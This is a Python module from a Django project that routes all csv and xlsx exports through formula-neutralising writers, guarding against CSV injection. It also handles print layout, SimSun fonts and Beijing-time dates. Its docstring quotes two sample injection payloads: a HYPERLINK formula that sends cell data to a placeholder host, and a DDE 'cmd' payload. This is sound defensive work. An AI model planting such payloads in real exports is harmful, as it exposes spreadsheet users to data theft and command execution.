"""Every csv and xlsx file the project writes is written through this module, so that no
export carries a formula (issue 13, item 4; OWASP "CSV Injection").

Text typed into a form or sent to the API may start with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return: ``=HYPERLINK("http://x/?d="&A2,"点击")`` as an address, or
``=cmd|' /C calc'!A0`` as an employer. A spreadsheet program opening the export would run
it. So:

- xlsx: text is always a string cell, never a formula (openpyxl turns any str starting
  with ``=`` into a formula cell), with Excel's "quote prefix" set on such cells so that
  editing the cell in Excel keeps it text. The value is unchanged.
- csv: text starting with one of those characters gets the neutralising prefix OWASP
  describes, a single quote (``'=1+2``), and every text field is quoted, so that a
  separator inside a cell (``a;=1+2`` read with ``;`` as the list separator) cannot
  start a new cell. Numbers written as numbers are not text and get no prefix.

Every xlsx sheet is also one an office can print and filter (issue 16, item 5):
:func:`lay_out` gives it column widths, a frozen header row, header rows repeated on every
printed page, A4 fitted to one page wide (landscape when the columns are wider than a
portrait page) and a filter on the header; every workbook's default font is 宋体 (SimSun)
with the GB2312 character set, so a program without it substitutes a Chinese font, not
boxes. Dates are date cells (``yyyy-mm-dd``) and times Beijing time (settings.TIME_ZONE,
as the pages show them), never text or UTC; ID-number columns are text cells in the text
format ``@``, so that editing a cell in Excel keeps its 18 digits.

Reading back (``liudong.tabular``) undoes exactly what was added: :func:`from_csv_text`
removes one quote where :func:`csv_text` would have put one, so an export imports back
unchanged (a phone ``+8613800000000`` or a note ``-1`` included), and a legitimate
value that happens to start with a quote (``'0571``) is left alone.

What this module owns: the writers. What it must not do: read files (``tabular``).
``tests/test_safesheet.py`` fails when any other module writes csv or xlsx itself.
"""

from __future__ import annotations

import csv
import datetime
import re
import unicodedata
from collections.abc import Collection, Iterable, Sequence
from copy import copy
from pathlib import Path
from typing import IO, Any, cast

from openpyxl import Workbook as _OpenpyxlWorkbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils.cell import get_column_letter
from openpyxl.utils.indexed_list import IndexedList
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.properties import PageSetupProperties
from openpyxl.worksheet.worksheet import Worksheet

# What a spreadsheet program takes as the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Text the csv writer prefixes: a formula start, after any number of quotes. The quotes
# matter: without them "'=x" written as is would read back as "=x".
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
# Text the csv reader un-prefixes: what the writer made of the above (one quote more).
_QUOTED = re.compile(r"'+[=+\-@\t\r]")

CSV_ENCODING = "utf-8-sig"  # with BOM, so that Excel shows Chinese


def csv_text(value: Any) -> Any:
    """``value`` as a csv cell: text that could start a formula gets a leading quote."""
    if isinstance(value, str) and _NEEDS_QUOTE.match(value):
        return "'" + value
    return value


def from_csv_text(text: str) -> str:
    """The inverse of :func:`csv_text` for a cell read from a csv file."""
    return text[1:] if _QUOTED.match(text) else text


class CsvWriter:
    """``csv.writer`` with every row's text neutralised and every text field quoted."""

    def __init__(self, handle: IO[str]) -> None:
        self._writer = csv.writer(handle, quoting=csv.QUOTE_NONNUMERIC)

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow([csv_text(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def _as_text(cell: Cell) -> Cell:
    """A cell holding text that a spreadsheet could take for a formula, made plain text."""
    if cell.data_type == "f":
        cell.data_type = "s"
    if cell.data_type == "s" and isinstance(cell.value, str) and cell.value[:1] in FORMULA_STARTS:
        # Excel's own "this is text" flag: typing over the cell keeps it text.
        cell.quotePrefix = True
    return cell


def _needs_cell(value: Any) -> bool:
    return isinstance(value, str) and value[:1] in FORMULA_STARTS and value != ""


# What XML 1.0, and so xlsx, cannot hold: C0 controls but tab and line breaks. New values
# never hold one (liudong.controlchars refuses them); one stored before that must not
# make the whole export fail, so it shows as U+FFFD, visibly not the original.
_NOT_IN_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
REPLACEMENT = "\ufffd"


def _storable(value: Any) -> Any:
    if isinstance(value, str) and _NOT_IN_XLSX.search(value):
        return _NOT_IN_XLSX.sub(REPLACEMENT, value)
    return value


# --- Print and filter: the layout every export shares -----------------------------------

FONT_NAME = "宋体"  # SimSun, what Chinese Excel and WPS write in by default
# The font's character set (GB2312): a program without 宋体 substitutes a Chinese font.
GB2312_CHARSET = 134
DATE_FORMAT = "yyyy-mm-dd"
TIME_FORMAT = "yyyy-mm-dd hh:mm:ss"
TEXT_FORMAT = "@"
# Column-width units (characters of the default font) an A4 portrait page holds at 100 %:
# a wider sheet prints landscape.
PORTRAIT_WIDTH = 95
HEADER_FILL = PatternFill("solid", fgColor="E8EEF7")
# The header of a column of ID numbers, whole or masked: such a column is text ("@").
_ID_HEADER = re.compile(r"身份号码|身份证|id_number|id number", re.IGNORECASE)


def font(*, size: float = 11, bold: bool = False) -> Font:
    """The sheets' font (宋体, GB2312) at a size, bold or not: every styled cell uses it,
    as a Font without a name would fall back to the program's Latin default."""
    return Font(name=FONT_NAME, charset=GB2312_CHARSET, family=3, size=size, bold=bold)


DEFAULT_FONT = font()
HEADER_FONT = font(bold=True)


def text_width(text: object) -> int:
    """The columns ``text`` takes in a spreadsheet: a CJK character takes two."""
    return sum(2 if unicodedata.east_asian_width(char) in "WF" else 1 for char in str(text))


def id_columns(header: Sequence[object]) -> list[int]:
    """The 0-based columns of ``header`` that hold ID numbers."""
    return [index for index, title in enumerate(header) if _ID_HEADER.search(str(title or ""))]


def local_time(value: datetime.datetime) -> datetime.datetime:
    """``value`` as the wall-clock time of settings.TIME_ZONE (Beijing time), without a
    zone, as a spreadsheet stores times; a naive value is taken as already local."""
    from django.utils import timezone

    if timezone.is_aware(value):
        return timezone.localtime(value).replace(tzinfo=None, microsecond=0)
    return value


def time_text(value: datetime.datetime) -> str:
    """A timestamp written into a title or note line (生成时间): Beijing time, to the minute."""
    return local_time(value).strftime("%Y-%m-%d %H:%M")


class _Layout:
    __slots__ = ("autofilter", "columns", "header_row", "text_columns")

    def __init__(
        self, header_row: int, columns: int, text_columns: frozenset[int], autofilter: bool
    ) -> None:
        self.header_row = header_row
        self.columns = columns
        self.text_columns = text_columns
        self.autofilter = autofilter


def lay_out(
    sheet: Worksheet | WriteOnlyWorksheet,
    header: Sequence[object],
    *,
    header_row: int = 1,
    widths: Sequence[float] | None = None,
    text_columns: Collection[int] | None = None,
    landscape: bool | None = None,
    autofilter: bool = True,
) -> None:
    """Make ``sheet`` one an office can print and filter. ``header`` is the row of column
    headers, row ``header_row`` (rows above it are titles, printed on every page with it).

    Column widths default from the header text; ``text_columns`` (0-based) default to the
    columns whose header names an ID number. A streamed sheet (``write_only``) must be
    laid out before its first row is appended: its widths and panes are written first."""
    if text_columns is None:
        text_columns = id_columns(header)
    if widths is None:
        widths = [
            max(20 if index in text_columns else 8, min(40, text_width(title) + 3))
            for index, title in enumerate(header)
        ]
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    sheet.freeze_panes = f"A{header_row + 1}"
    sheet.print_title_rows = f"1:{header_row}"
    setup = sheet.page_setup
    setup.paperSize = Worksheet.PAPERSIZE_A4
    wide = sum(widths) > PORTRAIT_WIDTH if landscape is None else landscape
    setup.orientation = "landscape" if wide else "portrait"
    setup.fitToWidth = 1
    setup.fitToHeight = 0  # as many pages down as the rows need
    sheet.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
    sheet.print_options.horizontalCentered = True
    sheet._liudong_layout = _Layout(header_row, len(header), frozenset(text_columns), autofilter)


def _layout(sheet: Worksheet | WriteOnlyWorksheet) -> _Layout | None:
    return getattr(sheet, "_liudong_layout", None)


def _typed(value: Any, text_column: bool) -> tuple[Any, str | None]:
    """A value as a cell can hold it, with the number format it needs (None: the default)."""
    if isinstance(value, datetime.datetime):
        return local_time(value), TIME_FORMAT
    if isinstance(value, datetime.date):
        return value, DATE_FORMAT
    if text_column and isinstance(value, str):
        return value, TEXT_FORMAT
    return value, None


def _header_style(cell: Cell | WriteOnlyCell) -> None:
    cell.font = HEADER_FONT
    cell.fill = HEADER_FILL
    cell.alignment = Alignment(wrap_text=True, horizontal="center", vertical="center")


class _TextWriteOnlySheet(WriteOnlyWorksheet):
    """A streamed sheet whose appended text is never a formula, whose dates and times are
    date cells, and whose laid-out header and ID-number columns are styled."""

    _rows_written = 0

    def append(self, row: Iterable[object]) -> None:
        self._rows_written += 1
        layout = _layout(self)
        header = layout is not None and self._rows_written == layout.header_row
        text_columns = (
            layout.text_columns
            if layout is not None and self._rows_written > layout.header_row
            else frozenset()
        )
        cells = []
        for index, value in enumerate(row):
            if isinstance(value, Cell):
                value = _as_text(value)
            else:
                value, number_format = _typed(_storable(value), index in text_columns)
                if number_format is not None or header or _needs_cell(value):
                    cell = WriteOnlyCell(self, value)
                    if number_format is not None:
                        cell.number_format = number_format
                    if header and value not in (None, ""):
                        _header_style(cell)
                    value = _as_text(cell)
            cells.append(value)
        super().append(cells)


class _TextSheet(Worksheet):
    """An ordinary sheet whose appended rows hold only what xlsx can store (formulas are
    turned into text when the workbook is saved: a cell may also be set directly), with
    dates and times as date cells and a laid-out header and ID-number columns styled."""

    def append(self, iterable: Iterable[object]) -> None:
        if isinstance(iterable, dict):
            super().append(iterable)
            return
        layout = _layout(self)
        row_number = self._current_row + 1
        text_columns = (
            layout.text_columns
            if layout is not None and row_number > layout.header_row
            else frozenset()
        )
        values: list[object] = []
        formats: dict[int, str] = {}
        for index, value in enumerate(iterable):
            if not isinstance(value, Cell):
                value, number_format = _typed(_storable(value), index in text_columns)
                if number_format is not None:
                    formats[index] = number_format
            values.append(value)
        super().append(values)
        for index, number_format in formats.items():
            self.cell(row=self._current_row, column=index + 1).number_format = number_format
        if layout is not None and self._current_row == layout.header_row:
            for index, value in enumerate(values):
                if value not in (None, ""):
                    _header_style(self.cell(row=self._current_row, column=index + 1))


class Workbook(_OpenpyxlWorkbook):
    """openpyxl's workbook whose text is always text: streamed sheets (``write_only``)
    convert each appended row; ordinary sheets are swept when the workbook is saved. Its
    default font is 宋体 (:data:`DEFAULT_FONT`)."""

    def __init__(self, write_only: bool = False, iso_dates: bool = False) -> None:
        super().__init__(write_only=write_only, iso_dates=iso_dates)
        # Font 0 is every unstyled cell's, and the Normal style's.
        self._fonts = IndexedList([DEFAULT_FONT])
        self._named_styles["Normal"].font = copy(DEFAULT_FONT)
        if not write_only:
            self._sheets[0] = _TextSheet(self)  # instead of openpyxl's first, empty sheet

    def create_sheet(self, title: str | None = None, index: int | None = None) -> Worksheet:
        kind = _TextWriteOnlySheet if self.write_only else _TextSheet
        sheet = kind(parent=self, title=title)
        self._add_sheet(sheet=sheet, index=index)
        return sheet

    def save(self, filename: str | Path | IO[bytes]) -> None:
        for sheet in self.worksheets:
            layout = _layout(sheet)
            if layout is not None and layout.autofilter and layout.columns:
                last_row = (
                    sheet._rows_written if isinstance(sheet, _TextWriteOnlySheet) else sheet.max_row
                )
                sheet.auto_filter.ref = (
                    f"A{layout.header_row}:{get_column_letter(layout.columns)}"
                    f"{max(last_row, layout.header_row)}"
                )
        if not self.write_only:
            for sheet in self.worksheets:
                for cell in sheet._cells.values():
                    _as_text(cell)
        super().save(filename)


def write_table(
    target: str | Path | IO[Any],
    header: list[str],
    rows: Iterable[Iterable[object]],
    *,
    sheet_title: str = "Sheet1",
) -> None:
    """Write csv (UTF-8 with BOM) or xlsx, by the file suffix; a binary stream (not a
    path) gets xlsx, a text stream (``sys.stdout``) csv."""
    from pathlib import Path

    if hasattr(target, "write") and not _is_binary(cast(IO[Any], target)):
        writer = CsvWriter(cast(IO[str], target))
        writer.writerow(header)
        writer.writerows(rows)
        return
    if not hasattr(target, "write") and Path(target).suffix.lower() != ".xlsx":
        with Path(target).open("w", encoding=CSV_ENCODING, newline="") as handle:
            write_table(handle, header, rows)
        return
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(sheet_title)
    lay_out(sheet, header)
    sheet.append(header)
    for row in rows:
        sheet.append(list(row))
    workbook.save(target)


def _is_binary(stream: IO[Any]) -> bool:
    import io

    return isinstance(stream, io.BufferedIOBase | io.RawIOBase) or "b" in getattr(
        stream, "mode", ""
    )
